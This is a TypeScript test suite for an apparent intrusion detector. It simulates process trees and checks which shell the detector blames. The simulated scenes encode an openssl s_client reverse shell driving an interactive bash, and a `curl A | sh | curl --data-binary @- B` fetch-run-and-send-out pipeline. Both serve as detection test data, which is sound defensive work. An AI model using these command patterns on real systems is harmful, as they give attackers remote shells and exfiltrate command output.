/** Whom a case names when several interpreters have the same two ends. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { makeProcessFork } from '../../../event/testing/make.ts';
import { helloBytes } from '../testing/client-hello.ts';
import { EPOCH, fifo, keyOf, nullFd, pipe, Scene } from '../testing/scene.ts';

const SCRIPT = '/root/.pyenv/libexec/pyenv-versions';

function openssl(scene: Scene): void {
  scene.start({
    pid: 102,
    parentPid: 100,
    path: '/usr/bin/openssl',
    argv: ['openssl', 's_client', '-quiet', '-connect', '10.20.0.2:4433'],
    stdio: [pipe(1), fifo(7), nullFd],
    at: 6,
  });
  scene.map(102, 'libcrypto.so.3', 9);
}

/** A subshell of a script that the shell's start-up file runs: it has the shell's ends. */
function startUpFile(scene: Scene): void {
  const argv = ['bash', SCRIPT];
  scene.start({ pid: 103, parentPid: 101, path: '/usr/bin/bash', argv, stdio: [fifo(7), pipe(1), pipe(1)], at: 8 });
  scene.play(makeProcessFork({ time: EPOCH + 9, pid: 104, parentPid: 103 }));
}

/** @param late The shell gets its output after the others have it. */
function play(late: boolean): Scene {
  const scene = new Scene();
  const output = late ? nullFd : pipe(1);
  scene.start({ pid: 100, path: '/usr/bin/bash', argv: ['bash'], parentPid: 50 });
  scene.start({
    pid: 101,
    parentPid: 100,
    path: '/usr/bin/bash',
    argv: ['bash', '-i'],
    stdio: [fifo(7), output, output],
    at: 5,
  });
  openssl(scene);
  startUpFile(scene);
  scene.net({ pid: 102, at: 30, startedAt: 20, tx: helloBytes('opensslAddress') });
  if (late) scene.stdio(101, 1, pipe(1), 40);
  scene.net({ pid: 102, at: 3000, startedAt: 20, tx: helloBytes('opensslAddress'), txBytes: 90_000 });
  return scene;
}

test('the outermost shell is the actor, whatever it started with its own ends', () => {
  const { verdicts, last } = play(false);
  assert.equal(verdicts[0]?.actor, keyOf(101));
  assert.equal(last?.actor, keyOf(101));
});

test('the actor moves up to the shell that turns out to stand above it; the case stays the same', () => {
  const { verdicts, last } = play(true);
  assert.equal(verdicts[0]?.actor, keyOf(103), 'the highest that had both ends then');
  assert.equal(last?.actor, keyOf(101));
  assert.equal(last?.uid, verdicts[0]?.uid);
  assert.deepEqual(last?.group, verdicts[0]?.group);
  assert.ok(last?.participants.includes(keyOf(103)));
});

test('a command substitution, which has only the error output of the shell, is not taken for it', () => {
  const scene = new Scene();
  const stdio = [fifo(7), pipe(1), pipe(1)] as const;
  scene.start({ pid: 100, path: '/usr/bin/bash', argv: ['bash'], parentPid: 50 });
  openssl(scene);
  // The substitution is joined first: it is told of before the shell gets its ends.
  scene.start({ pid: 101, parentPid: 100, path: '/usr/bin/bash', argv: ['bash', '-i'], at: 5 });
  const captured = [fifo(7), pipe(9), pipe(1)] as const;
  scene.start({ pid: 104, parentPid: 101, path: '/usr/bin/bash', argv: ['bash', SCRIPT], stdio: captured, at: 8 });
  stdio.forEach((fd, slot) => {
    scene.stdio(101, slot as 0 | 1 | 2, fd, 10);
  });
  scene.net({ pid: 102, at: 30, startedAt: 20, tx: helloBytes('opensslAddress') });
  assert.equal(scene.last?.actor, keyOf(101));
});

test('stays with the shell when the one above it has other ends', () => {
  const scene = new Scene();
  scene.start({
    pid: 100,
    path: '/usr/bin/bash',
    argv: ['bash', '-i'],
    stdio: [nullFd, pipe(4), nullFd],
    parentPid: 50,
  });
  const stdio = [fifo(7), pipe(1), pipe(1)] as const;
  scene.start({ pid: 101, parentPid: 100, path: '/usr/bin/bash', argv: ['bash', '-i'], stdio, at: 5 });
  openssl(scene);
  scene.net({ pid: 102, at: 30, startedAt: 20, tx: helloBytes('opensslAddress') });
  assert.equal(scene.last?.actor, keyOf(101));
});

/** `curl A | sh | curl --data-binary @- B`: the second curl begins when the others have ended. */
function fetchAndBring(from: string, to: string, { filter = false, renamed = false, port = 443 } = {}): Scene {
  const scene = new Scene();
  const curl = { path: '/usr/bin/curl', parentPid: 100 };
  scene.start({ pid: 100, path: '/usr/bin/bash', argv: ['bash', '/opt/sync/poll'], parentPid: 50 });
  scene.start({ ...curl, pid: 101, argv: ['curl', '-s', from], stdio: [nullFd, pipe(1), nullFd], at: 5 });
  const between = [pipe(1), pipe(2), nullFd] as const;
  if (filter) {
    scene.play(makeProcessFork({ time: EPOCH + 5, pid: 102, parentPid: 100 }));
    between.forEach((fd, slot) => {
      scene.stdio(102, slot as 0 | 1 | 2, fd, 5);
    });
  } else {
    const [path, name] = renamed ? ['/opt/sync/x', 'x'] : ['/usr/bin/dash', 'sh'];
    scene.start({ pid: 102, parentPid: 100, path, argv: [name], stdio: between, forkedAt: 4, at: 5 });
    scene.start({ pid: 104, parentPid: 102, path: '/usr/bin/id', argv: ['id'], stdio: between, at: 60 });
  }
  scene.start({ ...curl, pid: 103, argv: ['curl', '-s', '-d', '@-', to], stdio: [pipe(2), nullFd, nullFd], at: 5 });
  scene.map(101, 'libcrypto.so.3', 8);
  scene.map(103, 'libcrypto.so.3', 8);
  scene.tls(101, 10, helloBytes('curlAddress'), { address: from, port: 443 });
  for (const pid of [101, 102, 104]) if (!filter || pid !== 104) scene.end(pid, 80 + pid);
  scene.tls(103, 300, helloBytes('curlAddress'), { address: to, port, socket: 'socket:9' });
  return scene;
}

test('a shell whose commands one program fetches from where another brings its output is commanded', () => {
  const { last } = fetchAndBring('10.20.0.2', '10.20.0.2');
  assert.equal(last?.actor, keyOf(102));
  assert.match(last?.legs.find(({ leg }) => leg === 'joined-shell')?.reasons[0] ?? '', /by way of \/usr\/bin\/curl/);
});

test('so is a renamed shell, which starts what it was told', () => {
  assert.equal(fetchAndBring('10.20.0.2', '10.20.0.2', { renamed: true }).last?.actor, keyOf(102));
});

test('stays quiet when a loop of a shell only filters what is fetched and brought', () => {
  assert.deepEqual(fetchAndBring('10.20.0.2', '10.20.0.2', { filter: true }).verdicts, []);
});

test('stays quiet when it is brought to another service of that host', () => {
  assert.deepEqual(fetchAndBring('10.20.0.2', '10.20.0.2', { port: 9200 }).verdicts, []);
});

test('stays quiet when what a fetched script prints is sent to another place', () => {
  assert.deepEqual(fetchAndBring('10.20.0.2', '10.20.0.3').verdicts, []);
});
